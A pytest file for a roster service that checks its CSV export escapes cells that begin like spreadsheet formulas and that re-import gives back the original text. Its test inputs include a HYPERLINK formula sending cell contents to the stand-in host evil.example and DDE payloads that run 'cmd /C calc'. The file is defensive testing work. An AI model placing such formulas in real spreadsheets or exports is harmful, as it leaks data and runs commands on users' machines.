"""The roster's CSV export is safe to open in a spreadsheet (OWASP "CSV Injection"): a cell that
begins like a formula is written with a leading quote, and importing the export gives back the text."""

from __future__ import annotations

import csv
import io

import pytest
from litestar.testing import AsyncTestClient

from msnet.roster.transfer import read_csv
from tests.helpers import MakeCaller

FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.mark.parametrize("prefix", list(FORMULAS))
async def test_a_cell_beginning_like_a_formula_is_quoted_and_read_back_as_written(
    client: AsyncTestClient, make_caller: MakeCaller, prefix: str
) -> None:
    text = FORMULAS[prefix]
    au = await make_caller("au", ["roster:read", "roster:write"])
    body = {"name": "Amina Traoré", "bio": text, "affiliations": [text.replace(";", ",")]}
    created = await client.post("/v1/experts", json=body, headers=au.headers)
    assert created.status_code == 201, created.text

    export = await client.get("/v1/experts/export", headers=au.headers)
    assert export.status_code == 200
    (row,) = csv.DictReader(io.StringIO(export.text, newline=""))
    assert row["bio"] == "'" + text
    assert row["affiliations"] == "'" + text.replace(";", ",")
    assert row["name"] == "Amina Traoré"  # nothing else changes

    [(_, again)] = read_csv(export.text).rows
    assert again["bio"] == text
    assert again["affiliations"] == text.replace(";", ",")
    imported = await client.post(
        "/v1/experts/import", content=export.text.encode(), headers={**au.headers, "Content-Type": "text/csv"}
    )
    assert imported.status_code == 200, imported.text
    assert [len(imported.json()[k]) for k in ("created", "updated", "unchanged")] == [0, 0, 1]


def test_a_quote_the_export_did_not_add_is_kept() -> None:
    [(_, row)] = read_csv("name,bio\nAmina,'quoted on purpose\n").rows
    assert row["bio"] == "'quoted on purpose"
